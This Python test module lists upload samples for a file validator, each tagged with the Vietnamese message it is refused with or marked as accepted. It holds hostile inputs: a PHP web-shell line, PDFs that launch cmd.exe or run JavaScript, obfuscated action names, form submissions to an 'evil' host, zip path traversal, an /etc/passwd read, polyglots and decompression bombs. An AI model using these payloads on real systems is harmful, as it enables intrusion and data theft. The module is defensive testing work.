"""What people may send and what they may not: more than a hundred files, each with its class."""

from collections.abc import Callable
from dataclasses import dataclass

from pikepdf import Array, Name, String

from tests.documents import hostile_files as files
from tests.documents import hostile_pdfs as pdfs
from tests.documents.hostile_files import PAGE
from tests.documents.hostile_pdfs import SCRIPT, made
from tests.papers import a_pdf, a_picture

Making = Callable[[], bytes]
TYPE = "Chỉ nhận tệp PDF, JPG hoặc PNG"
DISGUISE, BROKEN = "không đúng với phần đuôi", "Tệp có thể đã hỏng"
SCRIPTS, ATTACHED = "chứa mã lệnh", "tệp khác đính bên trong"
OUT, MIXED = "tự mở hoặc gửi đi nơi khác", "lẫn nội dung của loại tệp khác"
ARCHIVE, HEAVY = "Không nhận tệp nén", "quá nhiều bộ nhớ"
PIXELS, PAGES, SHEET = "triệu điểm ảnh", "có quá 500 trang", "lớn hơn khổ giấy"
CODE = String("app.alert(1)")


@dataclass(frozen=True, slots=True)
class Sent:
    """A file, and the words with which it is refused; none when it may come in."""

    name: str
    make: Making
    words: str = ""


def changed(name: str, change: pdfs.Change, words: str, *, packed: bool = False) -> Sent:
    return Sent(name, lambda: made(change, packed=packed), words)


def plain(name: str, content: bytes, words: str) -> Sent:
    return Sent(name, lambda: content, words)


TYPES = [
    plain("rỗng.pdf", b"", "không có nội dung"),
    plain("chữ.txt", "Kính gửi".encode(), TYPE),
    plain("trang.html", PAGE, TYPE),
    plain("trang.svg", files.SVG, TYPE),
    plain("ảnh.svgz", b"\x1f\x8b" + files.SVG, ARCHIVE),
    plain("mã.js", b"alert(1)", TYPE),
    plain("mã.php", b"<?php system($_GET['c']);", TYPE),
    plain("động.gif", a_picture("GIF"), TYPE),
    plain("ảnh.bmp", a_picture("BMP"), TYPE),
    plain("ảnh.webp", a_picture("WEBP"), TYPE),
    plain("ảnh.tiff", a_picture("TIFF"), TYPE),
    plain("đơn.docx", files.office("word"), "Xin lưu tệp"),
    plain("bảng.xlsm", files.office("xl"), "Xin lưu tệp"),
    plain("cũ.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "Xin lưu tệp"),
    plain("chữ.rtf", b"{\\rtf1 {\\object\\objdata 01}}", "Xin lưu tệp"),
    plain("nén.zip", files.zipped(), ARCHIVE),
    plain("nén.rar", b"Rar!\x1a\x07\x01\0" + b"x" * 50, ARCHIVE),
    plain("nén.7z", b"7z\xbc\xaf\x27\x1c" + b"x" * 50, ARCHIVE),
    plain("nén.tar.gz", b"\x1f\x8b\x08" + b"x" * 50, ARCHIVE),
    plain("đường dẫn.zip", files.zipped("../../etc/cron.d/x"), ARCHIVE),
    Sent("bom.zip", lambda: files.zipped(content=bytes(50_000_000)), ARCHIVE),
    Sent("bom lồng.zip", lambda: files.zipped(content=bytes(9_000_000), times=5), ARCHIVE),
    *[plain(name, content, TYPE) for name, content in files.EXECUTABLES.items()],
    plain("thư.eml", b"From: a@b\nSubject: x\n\nx", TYPE),
    plain("chữ.ps", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", TYPE),
]
DISGUISED = [
    plain("giả.pdf", files.EXECUTABLES["windows.exe"], DISGUISE),
    plain("giả.jpg", PAGE, DISGUISE),
    plain("giả.png", files.zipped(), DISGUISE),
    plain("giả 2.pdf", a_picture("PNG"), DISGUISE),
    plain("giả 2.jpg", a_pdf(), DISGUISE),
    plain("giả 3.png", a_picture("JPEG"), DISGUISE),
    plain("giả 3.jpeg", a_picture("GIF"), DISGUISE),
    plain("đơn.pdf.exe", a_pdf(), DISGUISE),
    plain("lùi.pdf", b"\n\n" + a_pdf(), DISGUISE),
    plain("svg.png", files.SVG, DISGUISE),
    plain("word.pdf", files.office("word"), DISGUISE),
]
TWO_AT_ONCE = [
    Sent("gifar.gif", files.gif_and_archive, TYPE),
    Sent("pdf và zip.pdf", lambda: a_pdf() + files.zipped(), MIXED),
    Sent("zip ngược.pdf", files.pdf_in_the_comment_of_an_archive, MIXED),
    Sent("jpg và zip.jpg", lambda: a_picture("JPEG") + files.zipped(), MIXED),
    Sent("png và jar.png", lambda: a_picture("PNG") + files.zipped("META-INF/M.MF"), MIXED),
    Sent("pdf và trang.pdf", lambda: a_pdf().replace(b"\n", b"\n%" + PAGE + b"\n", 1), MIXED),
    Sent("pdf rồi trang.pdf", lambda: a_pdf() + PAGE, MIXED),
    Sent("png nói mã.png", lambda: files.png_saying(PAGE.decode()), MIXED),
    Sent("jpg nói mã.jpg", lambda: files.jpeg_saying(PAGE), MIXED),
    Sent("jpg rồi php.jpg", lambda: a_picture("JPEG") + b"<?php system('id'); ?>", MIXED),
    Sent("png rồi mã.png", lambda: a_picture("PNG") + b"<script>alert(1)</script>", MIXED),
    Sent("pdf rồi exe.pdf", lambda: a_pdf() + b"MZ\x90\0" + b"x" * 100, MIXED),
]
RUNNING = [
    changed("mở là chạy.pdf", pdfs.action(S=Name.JavaScript, JS=CODE), SCRIPTS),
    changed("chạy nén.pdf", pdfs.action(S=Name.JavaScript, JS=CODE), SCRIPTS, packed=True),
    changed("chạy theo tên.pdf", pdfs.named_script, SCRIPTS),
    changed("chạy theo tên, nén.pdf", pdfs.named_script, SCRIPTS, packed=True),
    changed("chạy từ luồng.pdf", pdfs.streamed_script, SCRIPTS, packed=True),
    changed("mở chương trình.pdf", pdfs.action(S=Name.Launch, F=String("cmd.exe")), SCRIPTS),
    changed("bấm là mở.pdf", pdfs.link(S=Name.Launch, F=String("cmd.exe")), SCRIPTS, packed=True),
    changed("sang trang là chạy.pdf", pdfs.on_page(S=Name.JavaScript, JS=CODE), SCRIPTS),
    changed("trình chiếu.pdf", pdfs.link(S=Name.Rendition, JS=CODE), SCRIPTS),
    changed("xfa.pdf", pdfs.xfa, SCRIPTS),
    changed("xfa nén.pdf", pdfs.xfa, SCRIPTS, packed=True),
    plain("viết lệch.pdf", a_pdf(extra=SCRIPT.replace(b"JavaS", b"J#61vaS")), SCRIPTS),
    plain(
        "viết lệch 2.pdf", a_pdf(extra=SCRIPT.replace(b"/JavaScript", b"/#4a#61vaScript")), SCRIPTS
    ),
    plain("viết lệch 3.pdf", a_pdf(extra=b"<< /S /L#61unch /F (cmd.exe) >>"), SCRIPTS),
    plain("lẻ loi.pdf", a_pdf(extra=SCRIPT), SCRIPTS),
    Sent("nén tay.pdf", pdfs.packed_script, SCRIPTS),
    plain("sau bảng.pdf", a_pdf().replace(b"startxref", SCRIPT + b"\nstartxref"), SCRIPTS),
    changed("kèm tệp.pdf", pdfs.attached, ATTACHED),
    changed("kèm tệp, nén.pdf", pdfs.attached, ATTACHED, packed=True),
    plain("kèm tệp lẻ.pdf", a_pdf(extra=b"<< /Type /EmbeddedFile >>"), ATTACHED),
    changed("ghim tệp.pdf", pdfs.mark("FileAttachment"), ATTACHED),
    changed("phim.pdf", pdfs.mark("Movie"), ATTACHED),
    changed("âm thanh.pdf", pdfs.mark("Sound"), ATTACHED, packed=True),
    changed("ba chiều.pdf", pdfs.mark("3D"), ATTACHED),
    changed("flash.pdf", pdfs.mark("RichMedia", RichMediaContent=Array([])), SCRIPTS),
    changed("flash nén.pdf", pdfs.mark("RichMedia"), SCRIPTS, packed=True),
]
REACHING = [
    changed("tự mở trang.pdf", pdfs.action(S=Name.URI, URI=String("http://evil")), OUT),
    changed("sang trang là gửi.pdf", pdfs.on_page(S=Name.SubmitForm, F=String("http://e")), OUT),
    changed("gửi biểu mẫu.pdf", pdfs.link(S=Name.SubmitForm, F=String("http://e")), OUT),
    changed("nạp dữ liệu.pdf", pdfs.link(S=Name.ImportData, F=String("a.fdf")), OUT),
    changed("mở tệp mạng.pdf", pdfs.link(S=Name.GoToR, F=String("\\\\evil\\a")), OUT, packed=True),
    changed("mở tệp kèm.pdf", pdfs.link(S=Name.GoToE), ATTACHED),
    changed("luồng ở ngoài.pdf", pdfs.outside_stream, OUT),
    changed("trang của tệp khác.pdf", pdfs.referenced, OUT),
]
BOMBS = [
    plain("bom.png", files.png_of(50_000, 50_000), PIXELS),
    Sent("bom thật.png", files.png_bomb, PIXELS),
    Sent("bom chữ.png", files.png_text_bomb, BROKEN),
    Sent("bom.jpg", files.jpeg_bomb, PIXELS),
    Sent("luồng phình.pdf", pdfs.stream_bomb, HEAVY),
    Sent("phình hai lần.pdf", pdfs.nested_bomb, HEAVY),
    Sent("chồng bộ lọc.pdf", pdfs.stacked_filters, HEAVY),
    Sent("nhiều luồng.pdf", pdfs.many_streams, HEAVY),
    Sent("ảnh phình.pdf", pdfs.picture_bomb, HEAVY),
    Sent("mảng sâu.pdf", pdfs.nested_arrays, ""),
    Sent("cây sâu.pdf", pdfs.deep_pages, ""),
    Sent("cây vòng.pdf", pdfs.looping_pages, ""),
    Sent("cây nhân mười.pdf", pdfs.doubling_pages, ""),
    Sent("mười nghìn trang.pdf", lambda: a_pdf(pages=10_000), PAGES),
    Sent("501 trang.pdf", lambda: a_pdf(pages=501), PAGES),
    Sent("khổ khổng lồ.pdf", lambda: pdfs.sized(14_400, 14_400), SHEET),
    Sent("đơn vị lớn.pdf", lambda: pdfs.sized(800, 600, unit=75), SHEET),
]
DAMAGED = [
    plain("cụt.pdf", a_pdf()[:-40], BROKEN),
    plain("hỏng.pdf", b"%PDF-1.7\n" + b"\0" * 500 + b"%%EOF", BROKEN),
    plain("không trang.pdf", a_pdf(pages=0), BROKEN),
    plain("cụt.jpg", a_picture("JPEG", (400, 400))[:-200], BROKEN),
    plain("cụt.png", a_picture("PNG", (400, 400))[:60], BROKEN),
    plain("đầu thôi.jpg", b"\xff\xd8\xff\xe0", BROKEN),
    plain("đầu thôi.png", b"\x89PNG\r\n\x1a\n", BROKEN),
    Sent("mật khẩu.pdf", pdfs.protected, "đặt mật khẩu"),
]
GOOD = [
    plain("đơn đề nghị.pdf", a_pdf(), ""),
    plain("ĐƠN.PDF", a_pdf(pages=3), ""),
    Sent("500 trang.pdf", lambda: a_pdf(pages=500), ""),
    plain("không đuôi", a_pdf(), ""),
    plain("xuống dòng.pdf", a_pdf() + b"\r\n\0\0", ""),
    Sent("chủ khóa.pdf", lambda: pdfs.protected(owner_only=True), ""),
    changed("có liên kết.pdf", pdfs.clicked, ""),
    changed("có liên kết, nén.pdf", pdfs.clicked, "", packed=True),
    changed("nói về mã.pdf", pdfs.speaking_of_scripts, ""),
    changed("biểu mẫu.pdf", pdfs.filled_form, "", packed=True),
    Sent("a0.pdf", lambda: pdfs.sized(2_384, 3_370), ""),
    Sent("a0 kéo dài.pdf", lambda: pdfs.sized(7_152, 2_384), ""),
    plain("ảnh.jpg", a_picture("JPEG"), ""),
    plain("ảnh.JPEG", a_picture("JPEG", (1000, 800)), ""),
    plain("ảnh.png", a_picture("PNG"), ""),
    Sent("điện thoại.jpg", lambda: files.with_place_and_camera("JPEG"), ""),
    Sent("điện thoại.png", lambda: files.with_place_and_camera("PNG"), ""),
    Sent("có lời.jpg", lambda: files.jpeg_saying(b"chup ngay 1/1"), ""),
    Sent("quét.png", lambda: a_picture("PNG", (2480, 3508)), ""),
]
REFUSED = [*TYPES, *DISGUISED, *TWO_AT_ONCE, *RUNNING, *REACHING, *BOMBS, *DAMAGED]
